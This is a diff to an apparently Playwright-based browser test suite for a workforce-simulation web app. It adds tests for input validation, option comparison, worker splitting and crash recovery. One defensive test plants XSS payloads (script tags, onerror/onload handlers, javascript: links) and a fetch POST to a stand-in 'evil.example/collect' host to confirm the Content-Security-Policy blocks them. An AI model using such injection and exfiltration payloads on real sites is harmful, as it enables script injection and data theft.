@@ -15,6 +15,8 @@ import { chromium } from 'playwright-core';
 import { mkdir, writeFile } from 'node:fs/promises';
 import { join, resolve, dirname } from 'node:path';
 import { fileURLToPath } from 'node:url';
+import { existsSync } from 'node:fs';
+import { spawnSync } from 'node:child_process';
 import { unzipSync, strFromU8 } from 'fflate';
 import { assert, downloadOf, eq, gbp, parseCsv, results, serve, test } from './harness.mjs';
 
@@ -24,6 +26,29 @@ const dist = join(www, 'dist');
 const shots = join(www, 'screenshots');
 const CHROMIUM = process.env.CHROMIUM || '/usr/bin/chromium';
 const TIMING_RUNS = Number(process.env.WFSIM_TIMING_RUNS || 10000);
+const CLI = resolve(www, '..', 'target', 'release', 'wfsim');
+
+/** The native CLI's summary JSON (it prints one newline more), built first if missing. */
+function cliSummary(...args) {
+  if (!existsSync(CLI)) {
+    const b = spawnSync('cargo', ['build', '--release', '--bin', 'wfsim'], {
+      cwd: resolve(www, '..'),
+      stdio: 'inherit',
+    });
+    if (b.status !== 0) throw new Error('cargo build --release failed');
+  }
+  const r = spawnSync(CLI, [...args, '--json', '-'], { encoding: 'utf8', maxBuffer: 1 << 30 });
+  if (r.status !== 0) throw new Error(`wfsim ${args.join(' ')}: ${r.stderr}`);
+  return r.stdout.replace(/\n$/, '');
+}
+
+/** Where two long texts first differ, for a failure message. */
+function firstDifference(a, b) {
+  const x = a.split('\n');
+  const y = b.split('\n');
+  const i = x.findIndex((line, k) => line !== y[k]);
+  return `${a.length} vs ${b.length} bytes; line ${i + 1}: ${x[i]} | ${y[i]}`;
+}
 
 // ---- the tests -------------------------------------------------------------------------------
 
@@ -46,11 +71,14 @@ const browser = await chromium.launch({
 });
 
 const requests = [];
+/** Requests the Content-Security-Policy stopped in the browser: they never left it. */
+const blockedByCsp = new Set();
 const consoleErrors = [];
 let expectErrors = false;
 async function newPage(context) {
   const page = await context.newPage();
   page.on('request', (r) => requests.push(r.url()));
+  page.on('requestfailed', (r) => r.failure()?.errorText === 'csp' && blockedByCsp.add(r.url()));
   page.on('console', (m) => {
     if (m.type() === 'error' && !expectErrors) consoleErrors.push(m.text());
   });
@@ -123,6 +151,14 @@ await test('the page loads the engine and the Peterborough preset', async () => 
   assert(help.includes('Funded social-worker posts'), 'help text from the schema');
   const note = await page.locator('#field-workforce-establishment .note').innerText();
   assert(note.includes('rebased'), 'preset source note shown');
+});
+
+await test('the decision analysis panel lists its outcomes before it is first used', async () => {
+  // Nothing in the panel has been clicked or focused: its lists must not be empty.
+  const outcomes = await page.locator('#sens-metric option').allTextContents();
+  assert(outcomes.length > 5, `outcomes offered (${outcomes.length})`);
+  eq(await page.inputValue('#sens-metric'), 'ia_backlog', 'a sensible outcome chosen');
+  assert((await page.locator('#sens-line option').count()) >= 7, 'budget lines offered');
 });
 
 await test('every control has a label', async () => {
@@ -203,6 +239,36 @@ await test('fixing the values clears the errors', async () => {
   await valid(page);
   eq(await page.locator('#form ul.errors li').count(), 0, 'no field errors');
   assert(!(await page.locator('#run').isDisabled()), 'run enabled');
+});
+
+await test('a decimal comma is refused with a message, never read as a different number', async () => {
+  await page.fill('#in-agency-fill_probability', '0,5');
+  await page.waitForSelector('#field-agency-fill_probability ul.errors li', { timeout: 20000 });
+  const err = await page.locator('#field-agency-fill_probability ul.errors').innerText();
+  assert(err.includes('“0,5”') && err.includes('0.5'), `says how to write it: ${err}`);
+  assert(await page.locator('#run').isDisabled(), 'run disabled');
+  await page.fill('#in-agency-fill_probability', '0.8');
+  await valid(page);
+  // The run settings too: "1,5" runs is not 15 runs; "1,500" is 1,500.
+  await page.fill('#runs', '1,5');
+  assert(await page.locator('#run').isDisabled(), 'run disabled for 1,5 runs');
+  assert((await page.locator('#run-help').innerText()).includes('1,5'), 'run help names it');
+  await page.fill('#runs', '1,500');
+  assert(!(await page.locator('#run').isDisabled()), '1,500 runs accepted');
+});
+
+await test('a share’s hint shows a percentage only for a value that can be one', async () => {
+  const hint = page.locator('#field-agency-fill_probability .hint');
+  await page.fill('#in-agency-fill_probability', '-5');
+  assert(!(await hint.innerText()).includes('%'), 'no "= -500%" for -5');
+  await page.waitForSelector('#field-agency-fill_probability.invalid', { timeout: 20000 });
+  assert(!(await hint.isVisible()), 'no hint while the field is invalid');
+  await page.fill('#in-agency-fill_probability', '80%');
+  await valid(page);
+  eq(await hint.innerText(), '= 80%', '"80%" is read as 0.8');
+  await page.fill('#in-agency-fill_probability', '0.8');
+  await valid(page);
+  eq(await hint.innerText(), '= 80%', 'hint for 0.8');
 });
 
 let summary;
@@ -429,46 +495,154 @@ await test('a share link restores the scenario in a fresh browser', async () => 
   await fresh.close();
 });
 
-await test('keep a baseline, change a value, run again: comparison', async () => {
-  await page.click('#keep-baseline');
-  assert(await page.locator('#baseline-info').isVisible(), 'baseline info shown');
-  await page.fill('#in-workforce-establishment', '95');
-  await page.waitForSelector('#stale:not([hidden])', { timeout: 5000 });
-  await valid(page);
-  await runTo(page, 500, 20120326);
-  await page.waitForSelector('#compare-metrics', { timeout: 10000 });
-  const rows = await page.locator('#compare-metrics tbody tr').count();
-  assert(rows >= 5, `comparison rows (${rows})`);
-  const changes = await page.locator('#sec-compare ul.changes').innerText();
-  assert(
-    changes.includes('workforce.establishment') && changes.includes('95'),
-    `changes listed: ${changes}`,
+await test('a link to another scenario names it in the header and offers to run it', async () => {
+  eq(
+    await page.locator('#working-name').innerText(),
+    'peterborough-2012',
+    'header names the preset',
   );
-  const brows = await page.locator('#compare-budget tbody tr').count();
-  assert(brows >= 6, `budget comparison rows (${brows})`);
-  const vac = await page.locator('#compare-metrics tr[data-metric="vacancies"]').innerText();
-  assert(vac.includes('→'), 'vacancies compared');
-  // Baseline overlaid on the charts.
-  const lines = await page.locator('#chart-vacancies .plot svg [aria-label="line"]').count();
-  assert(lines >= 2, `baseline and variant lines (${lines})`);
-  await page.locator('#sec-compare').scrollIntoViewIfNeeded();
-  await page.screenshot({ path: join(shots, 'compare.png') });
+  await page.fill('#in-name', 'another authority');
+  await page.click('#share');
+  const url = await page.inputValue('#share-url');
+  await page.click('#close-share');
+  await page.fill('#in-name', 'peterborough-2012');
+  await valid(page);
+  // Opened while the page shows peterborough-2012 and its results.
+  await page.goto(url);
+  await page.waitForFunction(
+    () => document.querySelector('#working-name')?.textContent === 'another authority',
+    null,
+    { timeout: 10000 },
+  );
+  eq(await page.inputValue('#preset-select'), '', 'the preset picker no longer says peterborough');
+  assert(
+    (await page.locator('#stale-text').innerText()).includes('“another authority”'),
+    'the old results say whose they are',
+  );
+  await valid(page);
+  await page.click('#notice-run');
+  await page.waitForFunction(
+    () => document.querySelector('[data-prov="name"]')?.textContent === 'another authority',
+    null,
+    { timeout: 60000 },
+  );
+  await page.fill('#in-name', 'peterborough-2012');
+  eq(await page.locator('#working-name').innerText(), 'peterborough-2012', 'header follows edits');
+  await valid(page);
 });
 
-await test('the comparison shows paired differences (same runs and seed)', async () => {
-  await page.waitForSelector('#paired-headlines', { timeout: 180000 });
-  eq(await page.locator('#paired-headlines tbody tr').count(), 4, 'four headline measures');
-  const spend = await page.locator('#paired-headlines tbody tr').first().innerText();
-  assert(/spend/.test(spend) && /%/.test(spend), `spend row with a probability: ${spend}`);
-  const brows = await page.locator('#paired-budget tbody tr').count();
-  assert(brows >= 7, `paired budget rows (${brows})`);
-  const p = await page.locator('#paired-headlines td[data-col="p-better"]').first().innerText();
-  assert(/^\d+%$/.test(p), `P(variant better): ${p}`);
-  await page.locator('#paired-compare').scrollIntoViewIfNeeded();
-  await page.screenshot({ path: join(shots, 'compare-paired.png') });
+// What a finance officer does to set "90 posts, agency cap 10" against the preset, counted
+// from the app as it opens: each click and each field typed in is one action.
+let actions = 0;
+const act = async (f) => {
+  actions++;
+  await f();
+};
+await test('options: "90 posts, agency cap 10" against the preset in five actions', async () => {
+  const ctx = await browser.newContext({ viewport: { width: 1600, height: 1000 } });
+  ctx.on('request', (r) => requests.push(r.url()));
+  const p = await newPage(ctx);
+  await p.goto(`${origin}/`);
+  await ready(p);
+  await valid(p);
+  await p.fill('#runs', '400'); // the run settings as they are (not counted: any runs will do)
+  await act(() => p.fill('#in-workforce-establishment', '90'));
+  await act(() => p.click('details.group:has(#in-agency-cap) > summary'));
+  await act(() => p.fill('#in-agency-cap', '10'));
+  await act(() => p.fill('#run-name', '90 posts, agency cap 10'));
+  await valid(p);
+  await act(() => p.click('#run'));
+  await p.waitForSelector(
+    '#sbs-paired td[data-option="90 posts, agency cap 10"] [data-col="p-better"]',
+    {
+      timeout: 180000,
+    },
+  );
+  eq(actions, 5, 'actions');
+  console.log(`     "90 posts, agency cap 10" against the preset: ${actions} actions`);
+  const names = await p
+    .locator('#options-table input[type="text"]')
+    .evaluateAll((xs) => xs.map((x) => x.value));
+  eq(names.join(' | '), 'peterborough-2012 (preset) | 90 posts, agency cap 10', 'options kept');
+  assert(await p.locator('#opt-base-1').isChecked(), 'the preset is the base');
+  assert(await p.locator('#opt-cmp-2').isChecked(), 'the new option is compared');
+  // Paired headline measures, key metrics, budget lines and questions, side by side.
+  eq(await p.locator('#sbs-paired tbody tr').count(), 4, 'four headline measures');
+  const agency = await p.locator('#sbs-metrics tr[data-metric="agency_fte"]').innerText();
+  assert(agency.split('\t').length === 3, `agency FTE for base and option: ${agency}`);
+  assert((await p.locator('#sbs-budget tbody tr').count()) >= 14, 'budget lines by year');
+  const staffing = p.locator('#sbs-budget tr[data-line="agency_staffing"][data-year="2012-13"] td');
+  eq(await staffing.count(), 3, 'the year, and agency staffing of base and option');
+  assert((await p.locator('#sbs-questions tbody tr').count()) >= 3, 'questions compared');
+  assert(
+    (await p.locator('#sbs-changes').innerText()).includes('agency.cap'),
+    'what the option changes',
+  );
+  assert((await p.locator('#sbs-chart-agency_fte svg').count()) === 1, 'a chart of the options');
+  assert((await p.locator('#sbs-spend-chart svg').count()) === 1, 'spend by year');
+  // The run's own charts overlay the base.
+  const lines = await p.locator('#chart-vacancies .plot svg [aria-label="line"]').count();
+  assert(lines >= 2, `base and option lines (${lines})`);
+  await p.locator('#sec-options').scrollIntoViewIfNeeded();
+  await p.screenshot({ path: join(shots, 'options.png') });
+
+  // Keep several: a third option (named after its changes), then both against the base.
+  await p.fill('#in-workforce-establishment', '95');
+  await valid(p);
+  await p.click('#run');
+  await p.waitForSelector(
+    '#sbs-paired td[data-option="Establishment 95, Most agency workers at once 10"] [data-col="p-better"]',
+    {
+      timeout: 180000,
+    },
+  );
+  eq(await p.locator('#sbs-paired thead th').count(), 4, 'measure, base and two options');
+  const paired = await p.locator('#sbs-paired').innerText();
+
+  // Kept in this browser: after a reload the options are there, and compare again to the
+  // same figures (same runs and seed).
+  await p.reload();
+  await ready(p);
+  eq(await p.locator('#options-table tbody tr').count(), 3, 'three options after a reload');
+  assert(
+    (await p.locator('#options-table').innerText()).includes('not run in this session'),
+    'results are made again when needed',
+  );
+  await p.click('#options-compare');
+  await p.waitForFunction(
+    () => document.querySelectorAll('#sbs-paired [data-col="p-better"]').length === 8,
+    null,
+    { timeout: 180000 },
+  );
+  eq(await p.locator('#sbs-paired').innerText(), paired, 'the same paired figures');
+
+  // Carried in a share link.
+  await p.click('#share');
+  const url = await p.inputValue('#share-url');
+  const other = await newPage(await browser.newContext({ viewport: { width: 1400, height: 900 } }));
+  await other.goto(url);
+  await ready(other);
+  const shared = await other
+    .locator('#options-table input[type="text"]')
+    .evaluateAll((xs) => xs.map((x) => x.value));
+  eq(shared.length, 3, `options from the link: ${shared.join(' | ')}`);
+  assert(shared.includes('90 posts, agency cap 10'), 'the named option from the link');
+  assert(await other.locator('#opt-cmp-2').isChecked(), 'compared as in the link');
+
+  // Another base: the options compared with it instead.
+  await p.click('#close-share');
+  await p.check('#opt-base-2');
+  await p.waitForFunction(
+    () => document.querySelector('#h-sbs')?.textContent.includes('against 90 posts, agency cap 10'),
+    null,
+    { timeout: 180000 },
+  );
+  await ctx.close();
+  await other.context().close();
 });
 
 await test('cancel stops a long run and the page keeps working', async () => {
+  const shown = await page.locator('[data-prov="runs"]').innerText();
   await page.fill('#runs', '1000000');
   await page.click('#run');
   await page.waitForFunction(() => Number(document.querySelector('#progress')?.value) > 0, null, {
@@ -485,23 +659,71 @@ await test('cancel stops a long run and the page keeps working', async () => {
     null,
     { timeout: 10000 },
   );
-  eq(await page.locator('[data-prov="runs"]').innerText(), '500', 'previous results kept');
+  eq(await page.locator('[data-prov="runs"]').innerText(), shown, 'previous results kept');
   await runTo(page, 100, 7);
   eq(await page.locator('[data-prov="runs"]').innerText(), '100', 'runs again after cancel');
 });
 
-await test('a crashed engine worker is reported and replaced', async () => {
-  expectErrors = true;
-  await page.evaluate(() => window.wfsimTest.crashRunner());
-  await page.waitForFunction(
-    () => document.querySelector('#run-message')?.textContent.includes('stopped unexpectedly'),
-    null,
-    { timeout: 10000 },
+await test('runs split over 1, 2 and 3 workers give the command-line tool’s summary byte for byte', async () => {
+  await page.selectOption('#preset-select', 'peterborough-2012');
+  await page.click('#load-preset');
+  await valid(page);
+  // 300 runs: three blocks of the engine, so each of 3 workers has one. 10,000 runs: shares
+  // of 3,300 to 5,000 runs, merged past the 4,096 values a column keeps raw (so the merge of
+  // raw columns into histograms, and of histograms, is checked too).
+  for (const [runs, workers] of [
+    [300, [1, 2, 3]],
+    [10000, [2, 3]],
+  ]) {
+    const cli = cliSummary(
+      'run',
+      '--preset',
+      'peterborough-2012',
+      '--runs',
+      String(runs),
+      '--seed',
+      '20120326',
+    );
+    for (const w of workers) {
+      await page.fill('#workers', String(w));
+      eq(await page.evaluate(() => window.wfsimTest.workers()), w, 'pool size from the field');
+      await runTo(page, runs, 20120326);
+      const text = await page.evaluate(() => window.wfsimTest.state().summaryText);
+      assert(text === cli, `${runs} runs on ${w} workers: ${firstDifference(text, cli)}`);
+    }
+  }
+  await page.fill('#workers', '0');
+  assert(await page.locator('#run').isDisabled(), 'no run on 0 workers');
+  assert(
+    /Workers must be a whole number from 1 to 16/.test(await page.locator('#run-help').innerText()),
+    'the field named in the message',
   );
-  await page.waitForTimeout(300);
+  await page.fill('#workers', '3');
+});
+
+await test('a worker that crashes mid-run is replaced and its share run again', async () => {
+  // On 3 workers, worker 2 dies while it runs the middle share (of 2,000 runs).
+  await runTo(page, 6000, 11);
+  const clean = await page.evaluate(() => window.wfsimTest.state().summaryText);
+  const before = await page.evaluate(() => window.wfsimTest.state().finishedAt);
+  expectErrors = true;
+  await page.click('#run');
+  await page.waitForFunction(() => Number(document.querySelector('#progress')?.value) > 0, null, {
+    timeout: 60000,
+  });
+  await page.evaluate(() => window.wfsimTest.killWorker(1));
+  await page.waitForFunction(
+    (b) => window.wfsimTest.state().finishedAt !== b && !window.wfsimTest.state().running,
+    before,
+    { timeout: 180000 },
+  );
   expectErrors = false;
-  await runTo(page, 120, 7);
-  eq(await page.locator('[data-prov="runs"]').innerText(), '120', 'runs after the crash');
+  assert(
+    (await page.locator('#run-message').innerText()).includes('replaced'),
+    'the run message says a worker was replaced',
+  );
+  const again = await page.evaluate(() => window.wfsimTest.state().summaryText);
+  assert(again === clean, 'the same summary as without the crash');
 });
 
 await test('sensitivity: a tornado chart, its table and rank correlations', async () => {
@@ -610,7 +832,6 @@ let timing;
 await test(`time ${TIMING_RUNS.toLocaleString('en-GB')} runs of the preset in the worker`, async () => {
   await page.selectOption('#preset-select', 'peterborough-2012');
   await page.click('#load-preset');
-  await page.click('#clear-baseline');
   await valid(page);
   timing = await runTo(page, TIMING_RUNS, 20120326);
   eq(
@@ -648,6 +869,17 @@ await test('the text view and the tabs work from the keyboard', async () => {
     { timeout: 60000 },
   );
   eq(await page.locator('[data-prov="runs"]').innerText(), '64', 'run started with Enter');
+  // The Run button pressed from the keyboard: the focus is still on it afterwards.
+  await page.fill('#runs', '65');
+  const before2 = await page.evaluate(() => window.wfsimTest.state().finishedAt);
+  await page.focus('#run');
+  await page.keyboard.press('Enter');
+  await page.waitForFunction(
+    (b) => window.wfsimTest.state().finishedAt !== b && !window.wfsimTest.state().running,
+    before2,
+    { timeout: 60000 },
+  );
+  eq(await page.evaluate(() => document.activeElement?.id), 'run', 'focus kept on Run');
 });
 
 await test('works offline once loaded (service worker)', async () => {
@@ -673,9 +905,106 @@ await test('works offline once loaded (service worker)', async () => {
   await ctx.close();
 });
 
+await test('markup in a shared scenario shows as text and loads nothing (Content-Security-Policy)', async () => {
+  const evil = {
+    name: '<img src="http://evil.example/name.png" onerror="window.pwned=1"><script>window.pwned=2</script>',
+    pod: '<svg onload="window.pwned=3"><a href="javascript:window.pwned=4">pod</a></svg>',
+    placement: '"><iframe src="http://evil.example/frame"></iframe>',
+    campaign: '<link rel="stylesheet" href="http://evil.example/x.css"><b>campaign</b>',
+  };
+  // Made in the form, as anyone could, and shared as a link.
+  const maker = await browser.newContext({ viewport: { width: 1400, height: 900 } });
+  maker.on('request', (r) => requests.push(r.url()));
+  const m = await newPage(maker);
+  await m.goto(`${origin}/`);
+  await ready(m);
+  await m.evaluate(() => document.querySelectorAll('details').forEach((d) => (d.open = true)));
+  await m.fill('#in-name', evil.name);
+  await m.fill('#in-pods-0-name', evil.pod);
+  await m.fill('#in-looked_after-placements-0-name', evil.placement);
+  await m.fill('#in-recruitment-campaigns-0-name', evil.campaign);
+  await valid(m);
+  await m.click('#share');
+  const url = await m.inputValue('#share-url');
+  await maker.close();
+
+  const ctx = await browser.newContext({
+    viewport: { width: 1400, height: 900 },
+    acceptDownloads: true,
+  });
+  ctx.on('request', (r) => requests.push(r.url()));
+  const p = await newPage(ctx);
+  const seen = [];
+  p.on('request', (r) => seen.push(r.url()));
+  await p.goto(url);
+  await ready(p);
+  const csp = await p.evaluate(
+    () => document.querySelector('meta[http-equiv="Content-Security-Policy"]')?.content ?? '',
+  );
+  assert(/default-src 'self'/.test(csp) && /connect-src 'self'/.test(csp), `CSP: ${csp}`);
+  eq(await p.locator('#working-name').innerText(), evil.name, 'the name shows as text');
+  await valid(p);
+  await p.click('#notice-run');
+  await p.waitForSelector('[data-prov="name"]', { timeout: 60000 });
+  eq(await p.locator('[data-prov="name"]').innerText(), evil.name, 'provenance shows it as text');
+  assert(
+    (await p.locator('#sec-questions').innerText()).includes(evil.campaign),
+    'the campaign’s name shows as text',
+  );
+  const injected = await p.evaluate(() => ({
+    pwned: window.pwned ?? null,
+    elements: [...document.querySelectorAll('img, iframe, script, link, svg a, b')]
+      .map((e) => e.outerHTML)
+      .filter((x) => x.includes('evil') || x.includes('pwned') || x.includes('<b>campaign')),
+  }));
+  eq(injected.pwned, null, 'no script ran');
+  eq(injected.elements.length, 0, `no element made from the names: ${injected.elements.join(' ')}`);
+  // The budget paper made from it, opened from the page, shows the names as text too.
+  await downloadOf(p, () => p.click('#dl-report'));
+  await p.waitForSelector('#open-report-html', { timeout: 60000 });
+  const [popup] = await Promise.all([ctx.waitForEvent('page'), p.click('#open-report-html')]);
+  popup.on('request', (r) => seen.push(r.url()));
+  await popup.waitForLoadState();
+  assert((await popup.locator('body').innerText()).includes(evil.name), 'report shows the name');
+  eq(await popup.evaluate(() => window.pwned ?? null), null, 'no script ran in the report');
+  await popup.close();
+  // And the policy is enforced: the page itself cannot reach another site.
+  expectErrors = true;
+  const blocked = await p.evaluate(async () => {
+    const violations = [];
+    document.addEventListener('securitypolicyviolation', (e) =>
+      violations.push(e.violatedDirective),
+    );
+    const fetched = await fetch('http://evil.example/collect', { method: 'POST', body: 'x' }).then(
+      () => 'sent',
+      () => 'blocked',
+    );
+    const img = new Image();
+    img.src = 'http://evil.example/pixel.png';
+    await new Promise((ok) => setTimeout(ok, 300));
+    return { fetched, violations };
+  });
+  expectErrors = false;
+  eq(blocked.fetched, 'blocked', 'fetch to another site blocked');
+  assert(
+    blocked.violations.includes('connect-src') && blocked.violations.includes('img-src'),
+    `violations reported: ${blocked.violations.join(', ')}`,
+  );
+  assert(blockedByCsp.has('http://evil.example/pixel.png'), 'the image request stopped by the CSP');
+  const foreign = seen.filter(
+    (u) => !u.startsWith(origin) && !/^(blob|data):/.test(u) && !blockedByCsp.has(u),
+  );
+  eq(foreign.length, 0, `requests left the origin: ${foreign.join(', ')}`);
+  await ctx.close();
+});
+
 await test('no request left the page’s origin', async () => {
   const foreign = requests.filter(
-    (u) => !u.startsWith(origin) && !u.startsWith('blob:') && !u.startsWith('data:'),
+    (u) =>
+      !u.startsWith(origin) &&
+      !u.startsWith('blob:') &&
+      !u.startsWith('data:') &&
+      !blockedByCsp.has(u),
   );
   eq(foreign.length, 0, `foreign requests: ${foreign.slice(0, 5).join(', ')}`);
   assert(requests.length > 3, 'requests were recorded');
